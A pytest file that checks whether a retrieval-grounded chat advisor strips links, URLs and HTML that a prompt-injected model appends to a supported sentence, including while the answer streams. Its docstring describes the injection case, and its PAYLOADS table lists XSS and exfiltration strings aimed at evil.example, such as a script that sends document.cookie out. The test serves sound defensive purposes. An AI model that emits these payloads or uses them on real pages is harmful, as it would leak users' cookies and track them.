"""A model that obeys an injection appends links, URLs and HTML to a sentence the sources do support.

The sentence itself ("AI Agents appear in 47.3% of all postings") passes the
grounding check, so before the fix the payload rode along: the chat page
rendered `<img>` (the browser fetched the attacker's URL with no click),
Markdown links were clickable and the `/ask` API returned raw `<script>`. The
rule: an answer carries no link, HTML tag or URL that its cited evidence does
not contain. The model is a real local OpenAI-compatible HTTP server that
streams the scripted reply, so the markup arrives split across deltas exactly
as a real model's would.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest

from advisor import Advisor
from tests.backends.scripted import ScriptedOpenAI

Q = "What percent of AI engineer postings ask for AI agents?"
SUPPORTED = "AI Agents appear in 47.3% of all postings"
PAYLOADS: dict[str, str] = {
    "md_link": "see [the full report](https://evil.example/report)",
    "md_image": "![chart](https://evil.example/pixel.png)",
    "bare_url": "(details at https://evil.example/leak)",
    "url_with_digits": "https://evil.example/track?id=12345&u=98765",
    "img_tag": '<img src="https://evil.example/p.gif" width="1" height="1">',
    "script": "<script>fetch('https://evil.example/c?'+document.cookie)</script>",
    "a_href": '<a href="https://evil.example/x">read more</a>',
    "javascript_link": "[click here](javascript:alert(document.cookie))",
    "data_uri": "[open](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "autolink": "<https://evil.example/auto>",
    "www": "more at www.evil-example.com/agents",
    "img_onerror": "<img src=x onerror=alert(1)>",
}
# What no shown answer may contain once the payloads are appended
FORBIDDEN = re.compile(r"evil|<|>|\]\(|javascript:|data:|https?://|www\.|onerror|alert\(", re.I)


def _advisor(base: Advisor, url: str) -> Advisor:
    return Advisor(base.settings.model_copy(update={
        "llm_base_url": url, "llm_timeout": 10.0, "llm_max_retries": 0, "llm_tool_calling": False,
        "checkpointer": "memory"}))


@pytest.fixture()
def model() -> Iterator[ScriptedOpenAI]:
    server = ScriptedOpenAI()
    yield server
    server.close()


def kept(shown: str) -> bool:
    """Whether anything of a payload reached what the user sees."""
    return bool(FORBIDDEN.search(shown))


def test_there_are_at_least_seven_payloads():
    assert len(PAYLOADS) >= 7


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_markup_riding_on_a_supported_sentence_is_removed(advisor: Advisor, model: ScriptedOpenAI, name: str):
    model.reply = f"{SUPPORTED} {PAYLOADS[name]} [1]. Most postings ask for Python [2]."
    events = list(_advisor(advisor, model.base_url).stream(Q))
    answer = events[-1].answer
    assert answer is not None and answer.backend == "openai", answer.notices
    assert "47.3%" in answer.text, "the supported claim itself is kept"
    streamed = "".join(e.delta for e in events)
    assert not kept(answer.text), answer.text
    assert not kept(streamed), streamed  # not even for a moment while streaming
    assert not any(kept(c.quote) for c in answer.citations if "evil" in c.quote)


def test_markup_sent_alone_in_small_deltas_never_streams(advisor: Advisor, model: ScriptedOpenAI):
    """Every payload at once, on one supported sentence: the 12-character deltas cut tags and links apart."""
    model.reply = f"{SUPPORTED} {' '.join(PAYLOADS.values())} [1]."
    events = list(_advisor(advisor, model.base_url).stream(Q))
    streamed = "".join(e.delta for e in events)
    assert not kept(streamed) and not kept(events[-1].answer.text), streamed
